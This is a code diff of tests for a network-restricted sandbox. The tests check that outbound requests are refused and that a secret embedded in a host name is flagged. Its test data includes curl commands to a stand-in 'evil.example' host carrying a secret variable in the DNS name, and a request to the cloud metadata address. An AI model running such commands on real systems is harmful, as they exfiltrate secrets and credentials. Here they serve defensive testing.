@@ -94,21 +94,19 @@ docker inspect ${name} | grep -c SSL_CERT_FILE && exit 1 || true`
       'http://169.254.169.254/latest',
       'http://10.1.2.3',
       'http://nowhere.example',
-      // biome-ignore lint/suspicious/noTemplateCurlyInString: a variable of the shell
-      'https://${NUMBER_KEY#*+}.evil.example',
+      'https://$WORD_KEY.evil.example',
     ]
     const record = await rehearse(
       [
         {
-          run: refused
-            .map(url => `! curl -sS -m 5 -o /dev/null "${url.replace('#*+', '')}" || exit 9`)
-            .join('\n'),
+          run: refused.map(url => `! curl -sS -m 5 -o /dev/null "${url}" || exit 9`).join('\n'),
         },
         { run: '! curl -fsS -d x http://packages.example/posted' },
       ],
-      { madeUp: { NUMBER_KEY: 'word' } },
+      { madeUp: { WORD_KEY: 'word' } },
     )
     expect(record.job.steps.map(({ status }) => status)).toEqual(['success', 'success'])
+    expect(record.reasons[0]).toBe('a step asked for a host name with a secret in it')
     expect(performance.now() - began).toBeLessThan(30_000)
     const names = record.network.refused.map(({ host }) => host).sort()
     expect(names).toEqual([
@@ -131,6 +129,7 @@ describe('a network that is off', () => {
       const record = await sandbox.rehearse({
         name: 'job',
         source,
+        madeUp: { WORD_KEY: 'word' },
         job: {
           machine: true,
           steps: [
@@ -138,12 +137,14 @@ describe('a network that is off', () => {
             {
               run: 'printf "FROM busybox:1.36\\nRUN wget -q http://in-a-build.example/\\n" > D; ! docker build -f D .',
             },
+            { run: '! curl -sS "https://$WORD_KEY.evil.example/" 2>/dev/null' },
             { run: 'curl -sS https://packages.example/' },
           ],
         },
       })
       expect(record.reasons).toEqual([
         "the step 'curl -sS https://packages.example/' failed",
+        'a step asked for a host name with a secret in it',
         'the network is off here, and the job asked for in-a-build.example, packages.example: add --allow-host in-a-build.example --allow-host packages.example, or --network open',
       ])
       expect(record.job.durationMs).toBeLessThan(20_000)
